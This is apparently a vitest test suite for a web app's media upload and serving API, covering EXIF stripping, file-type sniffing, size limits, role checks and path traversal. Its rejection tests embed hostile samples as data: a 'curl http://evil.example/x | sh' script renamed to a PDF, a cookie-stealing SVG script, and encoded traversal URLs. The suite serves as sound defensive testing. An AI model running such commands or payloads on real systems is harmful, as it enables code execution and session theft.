import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import sharp from 'sharp';
import { afterAll, describe, expect, it } from 'vitest';
import { list, single } from '@brids/contracts/schema';
import { mediaItem, type MediaItem } from '../../src/media/contract.ts';
import { folderMediaStore, mediaNameOf } from '../../src/media/store.ts';
import { currentSampleManifest, sampleMedia, SAMPLE_MANIFEST_FILE } from '../../src/media/sample.ts';
import { get, TARGETS, type TestContext, useApp } from '../helpers.ts';
import { actorWith, multipart, pdf, photoWithExif, pixelBomb, png } from './fixtures.ts';

async function upload(context: TestContext, auth: Record<string, string>, file: { bytes: Uint8Array; filename: string; type: string } | undefined, fields: Record<string, string> = {}) {
  const body = await multipart(file, fields);
  const res = await context.app.inject({ method: 'POST', url: '/api/media', payload: body.payload, headers: { ...auth, 'content-type': body.contentType } });
  return { status: res.statusCode, body: res.json() as { data: MediaItem; message: string; errors?: Record<string, string[]> } };
}

async function fetchMedia(context: TestContext, url: string, headers: Record<string, string> = {}) {
  const res = await context.app.inject({ method: 'GET', url, headers });
  return { status: res.statusCode, headers: res.headers, bytes: res.rawPayload };
}

describe('the sample files', () => {
  it('are named in the committed manifest as their bytes name them (the seed\'s URLs)', () => {
    expect(JSON.parse(readFileSync(SAMPLE_MANIFEST_FILE, 'utf8'))).toEqual(currentSampleManifest());
    expect(sampleMedia('/images/hero/home-hero.jpg')).toMatch(/^\/media\/[0-9a-f]{32}\.jpg$/);
    expect(() => sampleMedia('/images/hero/no-such.jpg')).toThrow(/write-sample-manifest/);
  });
});

describe.each(TARGETS)('the media store (%s)', (target) => {
  const dir = mkdtempSync(join(tmpdir(), 'media-test-'));
  const context = useApp(target, { media: folderMediaStore(dir) });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('re-encodes an uploaded photo without its EXIF, records its size, and serves it immutable at /media', async () => {
    const editor = await actorWith(context, ['editor']);
    const photo = await photoWithExif();
    expect((await sharp(photo).metadata()).exif).toBeDefined();
    const answer = await upload(context, editor, { bytes: photo, filename: 'rumah saya.jpg', type: 'image/jpeg' }, { 'alt.id': 'Kantor cabang', 'alt.en': 'Branch office' });
    expect(answer.status).toBe(201);
    const item = single(mediaItem).parse(answer.body).data;
    expect(item).toMatchObject({ type: 'image/jpeg', width: 64, height: 48, alt: { id: 'Kantor cabang', en: 'Branch office' }, originalName: 'rumah saya.jpg', uploadedBy: editor.email });
    expect(item.name).toMatch(/^[0-9a-f]{32}\.jpg$/);
    expect(item.url).toBe(`/media/${item.name}`);

    const served = await fetchMedia(context, item.url);
    expect(served.status).toBe(200);
    expect(served.headers['content-type']).toBe('image/jpeg');
    expect(served.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(Number(served.headers['content-length'])).toBe(item.size);
    const stored = await sharp(served.bytes).metadata();
    expect(stored).toMatchObject({ format: 'jpeg', width: 64, height: 48 });
    expect(stored.exif).toBeUndefined();
    expect(served.bytes.includes(Buffer.from('SecretPhone'))).toBe(false);
    expect(served.bytes.includes(Buffer.from('Rahasia'))).toBe(false);

    const again = await fetchMedia(context, item.url, { 'if-none-match': String(served.headers.etag) });
    expect(again.status).toBe(304);
    const head = await context.app.inject({ method: 'HEAD', url: item.url });
    expect(head.statusCode).toBe(200);
    expect(head.headers['content-type']).toBe('image/jpeg');
    expect(head.headers['content-length']).toBe(String(item.size));
    expect(head.rawPayload.length).toBe(0);
  });

  it('stores a PNG and a PDF by their bytes, whatever their names say', async () => {
    const publisher = await actorWith(context, ['research-publisher']);
    const image = await upload(context, publisher, { bytes: await png(40, 30), filename: 'logo.jpg', type: 'image/jpeg' }, { alt: 'Logo' });
    expect(image.status).toBe(201);
    expect(image.body.data).toMatchObject({ type: 'image/png', width: 40, height: 30, alt: { id: 'Logo', en: 'Logo' } });
    expect(image.body.data.name).toMatch(/\.png$/);

    const report = pdf('quarterly');
    const document = await upload(context, publisher, { bytes: report, filename: 'report', type: 'application/octet-stream' });
    expect(document.status).toBe(201);
    expect(document.body.data).toMatchObject({ type: 'application/pdf', size: report.length, width: null, height: null });
    const served = await fetchMedia(context, document.body.data.url);
    expect(served.headers['content-type']).toBe('application/pdf');
    expect(served.bytes.equals(report)).toBe(true);
  });

  it('gives the same bytes uploaded twice one name and one entry', async () => {
    const editor = await actorWith(context, ['editor']);
    const other = await actorWith(context, ['research-publisher']);
    const bytes = pdf('twice');
    const first = await upload(context, editor, { bytes, filename: 'a.pdf', type: 'application/pdf' });
    const second = await upload(context, other, { bytes, filename: 'b.pdf', type: 'application/pdf' });
    expect(first.status).toBe(201);
    expect(second.status).toBe(200);
    expect(second.body.data).toEqual(first.body.data);
    const answer = await get(context, `/api/media?q=${first.body.data.name.slice(0, 12)}`, { authorization: editor.authorization });
    expect(answer.status, JSON.stringify(answer.body)).toBe(200);
    const listed = list(mediaItem).parse(answer.body);
    expect(listed.data.map((m) => m.name)).toEqual([first.body.data.name]);
    expect(readdirSync(dir).filter((name) => name === first.body.data.name)).toHaveLength(1);
    expect(readdirSync(dir).filter((name) => name.endsWith('.tmp'))).toEqual([]);
  });

  it('refuses what is not an image or a PDF, with a clear message, and stores nothing', async () => {
    const editor = await actorWith(context, ['editor']);
    const before = readdirSync(dir).length;
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
    const renamed = await upload(context, editor, { bytes: script, filename: 'report.pdf', type: 'application/pdf' });
    expect(renamed.status).toBe(415);
    expect(renamed.body.message).toMatch(/only JPEG, PNG, WebP, AVIF or GIF images and PDF documents are accepted/);
    expect(renamed.body.errors?.file).toBeDefined();

    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>');
    const vector = await upload(context, editor, { bytes: svg, filename: 'logo.png', type: 'image/png' });
    expect(vector.status).toBe(415);
    expect(vector.body.message).toMatch(/SVG/);

    const html = Buffer.from('<!doctype html><html><body><script>alert(1)</script></body></html>');
    expect((await upload(context, editor, { bytes: html, filename: 'page.jpg', type: 'image/jpeg' })).status).toBe(415);
    expect((await upload(context, editor, { bytes: Buffer.alloc(0), filename: 'empty.pdf', type: 'application/pdf' })).status).toBe(422);
    expect((await upload(context, editor, undefined, { alt: 'no file' })).status).toBe(422);
    const json = await context.app.inject({ method: 'POST', url: '/api/media', payload: { file: 'x' }, headers: { ...editor } });
    expect(json.statusCode).toBe(415);
    expect(readdirSync(dir).length).toBe(before);
  });

  it('refuses oversize files and pixel bombs', async () => {
    const editor = await actorWith(context, ['editor']);
    const before = readdirSync(dir).length;
    const bomb = await upload(context, editor, { bytes: pixelBomb(20_000, 20_000), filename: 'small.png', type: 'image/png' });
    expect(bomb.status).toBe(413);
    expect(bomb.body.message).toMatch(/20000 × 20000 pixels: at most 40 megapixels/);

    const heavyImage = Buffer.concat([await png(), Buffer.alloc(10 * 1024 * 1024 + 1)]);
    const image = await upload(context, editor, { bytes: heavyImage, filename: 'big.png', type: 'image/png' });
    expect(image.status).toBe(413);
    expect(image.body.message).toBe('The image is larger than 10 MB.');

    const heavyPdf = Buffer.concat([pdf(), Buffer.alloc(20 * 1024 * 1024 + 1)]);
    const document = await upload(context, editor, { bytes: heavyPdf, filename: 'big.pdf', type: 'application/pdf' });
    expect(document.status).toBe(413);
    expect(document.body.message).toBe('The file is larger than 20 MB.');
    expect(readdirSync(dir).length).toBe(before);
  });

  it('lets only editors, research publishers and admins upload and list, and only editors and admins delete', async () => {
    const file = { bytes: pdf('roles'), filename: 'roles.pdf', type: 'application/pdf' };
    expect((await upload(context, {}, file)).status).toBe(401);
    expect((await upload(context, { authorization: 'Bearer not-a-token' }, file)).status).toBe(401);
    const staff = await actorWith(context, ['staff']);
    const agent = await actorWith(context, ['agent']);
    expect((await upload(context, staff, file)).status).toBe(403);
    expect((await upload(context, agent, file)).status).toBe(403);
    expect((await get(context, '/api/media')).status).toBe(401);
    expect((await get(context, '/api/media', { authorization: staff.authorization })).status).toBe(403);
    expect(readdirSync(dir)).not.toContain(mediaNameOf(file.bytes, 'application/pdf'));

    const admin = await actorWith(context, ['admin']);
    const created = await upload(context, admin, file);
    expect(created.status).toBe(201);
    const { name, url } = created.body.data;
    const publisher = await actorWith(context, ['research-publisher']);
    expect((await context.app.inject({ method: 'DELETE', url: `/api/media/${name}`, headers: publisher })).statusCode).toBe(403);
    expect((await context.app.inject({ method: 'DELETE', url: `/api/media/${name}` })).statusCode).toBe(401);
    const editor = await actorWith(context, ['editor']);
    expect((await context.app.inject({ method: 'DELETE', url: `/api/media/${name}`, headers: editor })).statusCode).toBe(204);
    expect((await fetchMedia(context, url)).status).toBe(404);
    expect((await context.app.inject({ method: 'DELETE', url: `/api/media/${name}`, headers: editor })).statusCode).toBe(404);

    const audit = await context.database.db.selectFrom('audit_log').select(['action', 'actor_email']).where('subject', '=', 'media').where('subject_key', '=', name).orderBy('id').execute();
    expect(audit).toEqual([{ action: 'upload', actor_email: admin.email }, { action: 'delete', actor_email: editor.email }]);
  });

  it('lists the library newest first, by text and type, with the sample files', async () => {
    const editor = await actorWith(context, ['editor']);
    const auth = { authorization: editor.authorization };
    const pdfs = list(mediaItem).parse((await get(context, '/api/media?filter[type]=pdf&page[size]=5', auth)).body);
    expect(pdfs.data.every((m) => m.type === 'application/pdf')).toBe(true);
    expect(pdfs.meta.total).toBeGreaterThan(100);
    const heroAnswer = await get(context, '/api/media?q=home-hero', auth);
    const hero = list(mediaItem).parse(heroAnswer.body);
    expect(hero.data).toEqual([expect.objectContaining({ url: sampleMedia('/images/hero/home-hero.jpg'), originalName: 'images/hero/home-hero.jpg', type: 'image/jpeg', width: 1920, height: 720 })]);
    expect((await get(context, '/api/media?page[size]=1000', auth)).status).toBe(400);
  });

  it('serves the sample files and nothing outside the store', async () => {
    const sample = await fetchMedia(context, sampleMedia('/files/forms/form-individual.pdf'));
    expect(sample.status).toBe(200);
    expect(sample.bytes.subarray(0, 5).toString()).toBe('%PDF-');
    for (const url of ['/media/../package.json', '/media/..%2f..%2fpackage.json', '/media/%2e%2e%2fcontent.sqlite', `/media/${'0'.repeat(32)}.jpg`, '/media/abc.jpg', '/media/']) {
      const res = await fetchMedia(context, url);
      expect(res.status, url).toBe(404);
    }
  });
});
